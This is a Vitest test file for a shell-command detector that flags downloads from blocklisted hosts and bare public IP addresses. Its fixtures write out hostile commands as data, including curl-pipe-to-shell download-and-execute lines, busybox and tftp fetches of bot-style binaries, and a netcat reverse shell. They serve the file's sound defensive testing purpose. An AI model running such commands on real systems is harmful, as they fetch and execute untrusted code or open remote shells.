import { describe, expect, test } from "vitest";
import { maliciousSourceDownload } from "./malicious-source-download.ts";
import { ShellHost } from "./testing/shell-host.ts";

describe("from a host on a list", () => {
  const host = (settings = {}) => new ShellHost(maliciousSourceDownload, settings, ["bad.example", "192.0.2.66"]);

  test.each([
    "wget https://bad.example/page.html",
    "curl -s https://cdn.bad.example/x",
    "wget http://192.0.2.66/download/eicar.com",
    "tftp -g -r x 192.0.2.66",
    "git clone https://bad.example/x.git",
    "git clone git@bad.example:x/y.git",
    "pip install https://bad.example/p.whl",
    "docker pull bad.example:5000/x/y:1",
    "scp eve@bad.example:/x .",
  ])("%s", (line) => {
    expect(host().run(line)[0]).toMatchObject({ confidence: "high", evidence: { data: { list: "test list" } } });
  });

  test.each([
    'sh -c "$(curl -s http://bad.example/i)"',
    "ssh other.example 'curl http://bad.example/i | sh'",
    "python3 -c 'import urllib.request as u; u.urlopen(\"http://bad.example/i\")'",
  ])("in a line: %s", (line) => {
    expect(host().line(line)).toHaveLength(1);
  });

  test.each([
    "echo http://bad.example/x",
    "grep bad.example access.log",
    "wget https://good.example/bad.example",
    "iptables -A OUTPUT -d 192.0.2.66 -j DROP",
    "dig bad.example",
    "nc -e /bin/sh 192.0.2.66 80",
  ])("a mention stays quiet: %s", (line) => {
    expect(host().run(line)).toEqual([]);
  });

  test("an allowed host is not reported", () => {
    expect(host({ allowedHosts: ["bad.example"] }).run("wget https://bad.example/x")).toEqual([]);
  });
});

describe("from a bare public address", () => {
  test.each([
    "wget http://203.0.113.9/x.sh",
    "wget http://203.0.113.9/agent",
    "curl -o /tmp/a http://203.0.113.9/data.bin",
    "wget http://203.0.113.9:4711/page.html",
    "busybox wget http://203.0.113.9/z.arm7",
    "tftp -g -r bins.sh 203.0.113.9",
  ])("%s", (line) => {
    expect(new ShellHost(maliciousSourceDownload).run(line)[0]?.confidence).toBe("medium");
  });

  test.each([
    "curl -s http://203.0.113.9/i | sh",
    'bash -c "$(curl -s http://203.0.113.9/i)"',
    "sh <(curl http://203.0.113.9/i)",
  ])("in a line: %s", (line) => {
    expect(new ShellHost(maliciousSourceDownload).line(line)).toHaveLength(1);
  });

  test.each([
    "wget http://203.0.113.9/page.html",
    "curl http://203.0.113.9/",
    "curl https://203.0.113.9/dns-query?name=x",
    "curl -X POST http://203.0.113.9:8086/write -d a=1",
    "wget http://192.168.4.2/update.sh",
    "curl -o x http://127.0.0.1:9000/x",
    "wget https://files.example/install.sh",
    "curl -fsSL https://packages.example/key.asc",
    "wget --spider http://203.0.113.9/x.sh",
    "scp eve@203.0.113.9:/srv/app .",
  ])("near miss stays quiet: %s", (line) => {
    expect(new ShellHost(maliciousSourceDownload).run(line)).toEqual([]);
  });

  test("can be switched off", () => {
    expect(
      new ShellHost(maliciousSourceDownload, { judgeBareAddresses: false }).run("wget http://203.0.113.9/x.sh"),
    ).toEqual([]);
  });
});
